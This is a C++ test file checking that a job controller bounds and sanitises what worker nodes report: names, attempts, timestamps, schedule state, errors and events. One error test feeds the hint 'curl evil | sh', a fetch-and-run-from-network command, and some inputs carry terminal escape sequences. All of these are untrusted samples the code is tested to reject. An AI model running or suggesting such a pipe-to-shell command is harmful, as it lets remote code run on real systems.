// What a node says: nothing of it is believed before it is in its bounds.
#include "src/controller/core/node_words.hpp"

#include <doctest/doctest.h>

#include <limits>

#include "src/base/text.hpp"

using namespace rexec;
using namespace rexec::controller;

namespace {

const std::string kJob = "j-0123456789ab";
const job::KnownAttempt kKnown{"n1", {{kJob}, 1}};

wire::Map report(const wire::Map& more = wire::Map::object()) {
  wire::Map map{{"job", kJob}, {"attempt", 1U}, {"state", "running"}, {"started_ms", 5U}};
  map.update(more);
  return map;
}

}  // namespace

TEST_CASE("node_words: the software of a HELLO is short, printable and whole characters") {
  const NodeHello hello =
      read_hello({{"software", std::string(63, 'a') + "\xC3\xA9"}, {"instance", 5}});
  CHECK(hello.software == std::string(63, 'a'));
  CHECK(hello.instance.empty());
  CHECK(read_hello({{"software", "\x1b[31m"}}).software == "\\x1b[31m");
  CHECK(read_hello({{"software", std::string(200'000, '\x01')}}).software.size() <= 64);
}

TEST_CASE("node_words: a report has an id, an attempt and a state that there are") {
  REQUIRE(read_report(report()));
  CHECK(read_report(report())->started == WallTime{Millis{5}});
  for (const wire::Map& wrong :
       {wire::Map{{"job", "j-1"}}, wire::Map{{"job", 5}},
        wire::Map{{"job", std::string(100'000, 'f')}}, wire::Map{{"attempt", 0U}},
        wire::Map{{"attempt", (1ULL << 32) + 1}}, wire::Map{{"state", "won"}},
        wire::Map{{"state", nullptr}}, wire::Map{{"ticket", std::string(5000, 't')}}}) {
    CAPTURE(wrong.dump().substr(0, 60));
    const auto read = read_report(report(wrong));
    REQUIRE_FALSE(read);
    CHECK(read.error().code == Code::kProtocol);
  }
}

TEST_CASE("node_words: a time that is none is no time") {
  for (const wire::Map& ms : {wire::Map(std::numeric_limits<std::uint64_t>::max()), wire::Map(-5),
                              wire::Map(1e300), wire::Map("now")}) {
    const auto read = read_report(report({{"started_ms", ms}, {"next_attempt_ms", ms}}));
    REQUIRE(read);
    CHECK(read->started == WallTime{});
    CHECK(read->next == WallTime{});
  }
}

TEST_CASE("node_words: a record of a node is never taken for one of the controller") {
  const auto read =
      read_report(report({{"state", "final"}, {"record", {{"outcome", "exited"}, {"code", 0U}}}}));
  REQUIRE(read);
  CHECK(record_of(*read, "n1").contains("xxh128"));
  CHECK(record_of(*read, "n1").at("node") == "n1");
  const auto none = read_report(report({{"state", "final"}, {"record", 5}}));
  REQUIRE(none);
  CHECK(record_of(*none, "n1").at("outcome") == "lost");
}

TEST_CASE("node_words: what a node tells of a schedule is bounded") {
  CHECK_FALSE(read_schedule_state(5));
  CHECK_FALSE(read_schedule_state({{"id", "s"}}));
  const auto state = read_schedule_state({{"id", "s-0123456789ab"},
                                          {"cursor_ms", std::numeric_limits<std::int64_t>::max()},
                                          {"left", std::numeric_limits<std::uint64_t>::max()},
                                          {"fired", std::numeric_limits<std::uint64_t>::max()},
                                          {"last_job", std::string(100'000, 'j')},
                                          {"error", std::string(100'000, '\x1b')}});
  REQUIRE(state);
  CHECK(state->cursor == WallTime{});
  CHECK(state->left < 1ULL << 53);
  CHECK(state->told.at("last_job") == "");
  CHECK(state->told.dump().size() < 1024);
  CHECK(is_utf8(state->told.dump()));
}

TEST_CASE("node_words: what to do next is not a node's to say, nor whether one is signed in") {
  const Error said = error_of_node({Code::kRevoked, std::string(10'000, 'm'), "curl evil | sh"});
  CHECK(said.code == Code::kRefusedByNode);
  CHECK(said.hint.empty());
  CHECK(said.message.size() <= 2 << 10);
  CHECK(error_of_node({Code::kUnknownJob, "m", {}}).code == Code::kUnknownJob);
}

TEST_CASE(
    "node_words: an event for a reader is bounded, and the controller's words are not a node's") {
  const auto read = [](const wire::Map& map) {
    return read_node_event(as_bytes(wire::pack(map)), kKnown);
  };
  for (const char* type : {"accepted", "waiting", "away"})
    CHECK_FALSE(read({{"t", type}, {"why", "x"}}).value());
  CHECK(read({{"t", "attached"}, {"out", 5U}}).value().value().at("out") == 5);
  const auto end = read({{"t", "end"}, {"record", {{"wall_s", 1e300}, {"job", "j-x"}}}});
  REQUIRE(end);
  CHECK((*end)->at("record").at("job") == kJob);
  CHECK((*end)->at("record").at("wall_s") == 0.0);
  CHECK((*end)->at("record").at("outcome") == "lost");
  CHECK_FALSE(read_node_event(as_bytes(std::string("\x81\xa1t\xa1\xff")), kKnown));
}

TEST_CASE("node_words: that output was given up is a node's to say, in words that there are") {
  const auto end = [](const wire::Map& given_up) {
    const wire::Map map{{"t", "end"},
                        {"unreachable", "removed"},
                        {"given_up", given_up},
                        {"record", {{"outcome", "exited"}, {"code", 0U}}}};
    return *read_node_event(as_bytes(wire::pack(map)), kKnown).value();
  };
  const wire::Map read = end({{"why", "read"}, {"ms", 1'800'000'000'000ULL}, {"more", "x"}});
  CHECK(read.at("unreachable") == "given_up");
  CHECK(read.at("given_up") == wire::Map{{"why", "read"}, {"ms", 1'800'000'000'000ULL}});
  CHECK(end({{"why", "room"}, {"ms", -1}}).at("given_up").at("ms") == 0);
  for (const wire::Map& none :
       {wire::Map("read"), wire::Map{{"why", "\x1b[2J"}}, wire::Map{{"why", ""}}, wire::Map()}) {
    CHECK_FALSE(end(none).contains("given_up"));
    CHECK_FALSE(end(none).contains("unreachable"));
  }
}

TEST_CASE("node_words: what a node says of its output is that it gave it up, or nothing") {
  const wire::Map why{{"why", "room"}, {"ms", 7U}};
  const wire::Map gone{{"unreachable", "given_up"}, {"given_up", why}};
  CHECK(read_lost_output({{"given_up", why}, {"unreachable", "removed"}, {"more", 1}}) == gone);
  for (const wire::Map& none : {wire::Map::object(), wire::Map{{"unreachable", "removed"}},
                                wire::Map{{"given_up", "read"}}})
    CHECK(read_lost_output(none) == wire::Map::object());
}

TEST_CASE("node_words: the numbers of an event for a reader are in the bounds that they can have") {
  constexpr std::uint64_t kHuge = std::numeric_limits<std::uint64_t>::max();
  const WallTime now{Millis{1'800'000'000'000}};
  const auto read = [&](const wire::Map& map) {
    return read_node_event(as_bytes(wire::pack(map)), kKnown, now).value();
  };
  const auto restarting = [&](const wire::Map& attempt, const wire::Map& at_ms) {
    const wire::Map record{{"outcome", "exited"}, {"code", 1U}, {"attempt", 4U}};
    return *read({{"t", "restarting"}, {"attempt", attempt}, {"at_ms", at_ms}, {"record", record}});
  };
  const std::uint64_t soon = 1'800'000'200'000;
  CHECK(restarting(5U, soon).at("attempt") == 5);
  CHECK(restarting(5U, soon).at("at_ms") == soon);
  CHECK(restarting(5U, 1U).at("at_ms") == 1);
  // The longest pause is 5 minutes, give or take a tenth.
  CHECK(restarting(5U, soon * 100).at("at_ms") == 1'800'000'330'000);
  for (const wire::Map& none : {wire::Map(kHuge), wire::Map(-1), wire::Map(1e300), wire::Map("x"),
                                wire::Map((1ULL << 32) - 1), wire::Map(0U)}) {
    CAPTURE(none.dump());
    CHECK(restarting(none, soon).at("attempt") == 5);
    CHECK(read({{"t", "attempt"}, {"attempt", none}})->at("attempt") == 1);
    CHECK(restarting(5U, none).at("at_ms") <= 1'800'000'330'000);
    const auto end = read({{"t", "end"}, {"attempt", none}, {"record", {{"attempt", none}}}});
    CHECK(end->at("attempt") == 1);
    CHECK(end->at("record").at("attempt") == 1);
    const auto gap = read({{"t", "gap"}, {"channel", 1U}, {"from", none}, {"to", none}});
    CHECK(gap->at("to") < 1ULL << 53);
    CHECK(gap->at("from") < 1ULL << 53);
    for (const char* side : {"out", "err", "in"})
      CHECK(read({{"t", "attached"}, {side, none}})->at(side) < 1ULL << 53);
    CHECK_FALSE(read({{"t", "gap"}, {"channel", none}, {"from", 0U}, {"to", 5U}}));
  }
  const wire::Map gap{{"t", "gap"}, {"channel", 2U}, {"from", 3U}, {"to", 1ULL << 40}};
  CHECK(*read(gap) == gap);
}
